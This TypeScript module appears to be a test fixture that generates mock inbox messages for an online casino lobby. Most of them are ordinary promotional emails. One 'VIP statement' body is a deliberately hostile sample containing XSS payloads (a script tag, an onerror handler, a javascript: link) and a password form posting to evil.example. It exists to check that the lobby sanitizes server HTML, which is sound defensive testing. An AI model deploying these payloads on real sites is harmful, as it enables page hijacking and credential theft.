import { addDays, CATALOG_ANCHOR, serverTime } from './dates.ts';

/** One message as `MessageCenter.php?getmessages` sends it. */
export interface WireMessage {
  readonly id: string;
  readonly subject: string;
  /** Server HTML; the lobby sanitizes it. */
  readonly body: string;
  readonly date: string;
  /** 0/1, as the PHP controllers send flags. */
  readonly read: 0 | 1;
}

/** What a player's inbox is built from. */
export interface InboxOwner {
  readonly pid: number;
  readonly fname: string;
  readonly unread: number;
  readonly class: string;
}

// Realistic operator mail. Bodies are the HTML an operator's mailer produces, links included.
const TEMPLATES: readonly { subject: string; body: (name: string) => string }[] = [
  {
    subject: 'Your weekly cashback has landed',
    body: (name) =>
      `<p>Hi ${name},</p><p>Your <strong>10% weekly cashback</strong> has been credited to your bonus balance. It is valid for 7 days.</p><p><a href="/promotions">See this week's promotions</a></p>`,
  },
  {
    subject: 'New this week: 12 fresh slots',
    body: (name) =>
      `<p>${name}, twelve new slots arrived this week, including <em>Wild West Gold Rush</em>.</p><ul><li>High volatility picks</li><li>Two new jackpot games</li></ul><p><a href="/category/online-slots">Browse the slots</a></p>`,
  },
  {
    subject: 'Tournament invitation: Midweek Spin Sprint',
    body: () =>
      '<p>The <strong>Midweek Spin Sprint</strong> starts Wednesday at 18:00 New York time. Top 50 places share the prize pool.</p><p><a href="/tournaments">Join the tournament</a></p>',
  },
  {
    subject: 'Your daily free spins are waiting',
    body: () => '<p>Spin the wheel once a day for free spins on a featured game. A new spin is ready at midnight New York time.</p>',
  },
  {
    subject: 'Security notice: new sign-in',
    body: (name) =>
      `<p>Hello ${name}, we noticed a sign-in from a new device. If this was you, there is nothing to do.</p><p>If not, please <a href="https://help.example/security" target="_blank">contact support</a> right away.</p>`,
  },
  {
    subject: 'Deposit bonus: 50% up to $100',
    body: () =>
      '<p>Make a deposit of $20 or more this weekend and get a <strong>50% match up to $100</strong>.</p><table><tr><th>Deposit</th><th>Bonus</th></tr><tr><td>$20</td><td>$10</td></tr><tr><td>$200</td><td>$100</td></tr></table>',
  },
  {
    subject: 'Responsible gaming reminder',
    body: () => '<p>Set deposit limits and session reminders any time in your account settings. Play for fun, and take breaks.</p>',
  },
];

// A hostile body, as a compromised mailer could send it: the lobby must render it inert. VIP
// players get it as their newest message.
const VIP_STATEMENT = {
  subject: 'Your VIP statement',
  body: (name: string) =>
    `<p>Dear ${name}, your monthly VIP statement is ready.</p><script>document.title='pwned'</script><img src="x" onerror="document.title='pwned'" alt=""><a href="javascript:document.title='pwned'">Open statement</a><form action="https://evil.example/steal"><input name="password"></form><div id="location" style="position:fixed;inset:0;background:red">overlay</div><p>Thank you for playing with us.</p>`,
};

// Read messages every inbox keeps beside its unread ones, so a player with nothing new still sees mail.
const READ_MESSAGES = 3;

/**
 * The player's inbox, newest first: `unread` unread messages, then {@link READ_MESSAGES} read ones,
 * dated back from the catalog's fixed "today" so every run serves the same mail.
 */
export function inboxOf(owner: InboxOwner): WireMessage[] {
  const total = owner.unread + READ_MESSAGES;
  return Array.from({ length: total }, (_, index) => {
    const vip = owner.class === 'vip';
    const template = vip && index === 0 ? VIP_STATEMENT : TEMPLATES[(index - (vip ? 1 : 0)) % TEMPLATES.length];
    const date = serverTime(addDays(CATALOG_ANCHOR, -index), `${String(9 + (index % 9)).padStart(2, '0')}:15`);
    return {
      id: `${owner.pid}-${total - index}`,
      subject: template?.subject ?? '',
      body: template?.body(owner.fname) ?? '',
      date,
      read: index < owner.unread ? 0 : 1,
    };
  });
}

/** When the casino last imported messages: the morning of the catalog's "today". */
export const LAST_IMPORT = serverTime(CATALOG_ANCHOR, '07:30');
